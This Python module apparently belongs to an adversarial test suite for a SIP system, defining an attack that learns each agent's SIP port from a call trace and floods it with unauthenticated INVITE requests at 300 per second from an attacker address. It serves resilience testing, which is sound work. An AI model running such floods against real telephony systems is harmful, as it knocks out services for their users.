"""Attacks on agents themselves, whose SIP ports strangers have learnt."""

from __future__ import annotations

import asyncio
import time
from pathlib import Path

import msgspec

from hostile.attack import Attack, Report, Target
from hostile.attacks.dialogs import established
from hostile.datagrams import FROM_PORT, Make, flood, request
from hostile.network import ATTACKER, GOOD
from wanderbus.machine import Address
from wanderbus.sip.message.uri import SIPUri

PER_S: float = 300.0
"""Calls a second at each agent."""

LOOK_EACH_S: float = 0.2
LOOK_S_MAX: float = 5.0


async def _calls(target: Target) -> Report:
    """Call every good agent at the SIP port that a trace shows, without an account."""
    ports = await _ports(Path(target.trace))
    floods = [
        flood(
            msgspec.structs.replace(target, server=host),
            port,
            _invites(host, port),
            PER_S,
            from_port=FROM_PORT + number,
        )
        for number, (host, port) in enumerate(ports)
    ]
    reports = await asyncio.gather(*floods)
    return {name: sum(each[name] for each in reports) for name in ("sent", "sent_bytes")} | {"agents": len(ports)}


async def _ports(trace: Path) -> list[Address]:
    """Return the SIP ports of the good agents, as soon as a trace shows them."""
    until = time.monotonic() + LOOK_S_MAX
    found: dict[str, int] = {}
    while len(found) < len(GOOD) and time.monotonic() < until:
        for invite, _ in established(trace):
            if invite.contact is not None:
                uri = SIPUri.parse(str(invite.contact.uri))
                found |= {uri.host: uri.port or 5060} if uri.host in GOOD else {}
        await asyncio.sleep(LOOK_EACH_S)
    return sorted(found.items())


def _invites(host: str, port: int) -> Make:
    contact = f"Contact: <sip:stranger@{ATTACKER}:{FROM_PORT}>"
    return lambda number: request(
        "INVITE", f"sip:{host}:{port}", via=f"{ATTACKER}:{FROM_PORT}", number=number, headers=[contact]
    )


ATTACKS = (
    Attack(
        "agents_called",
        "own",
        "a stranger calls each good agent at its own SIP port, 300 times a second",
        _calls,
        traced=True,
    ),
)
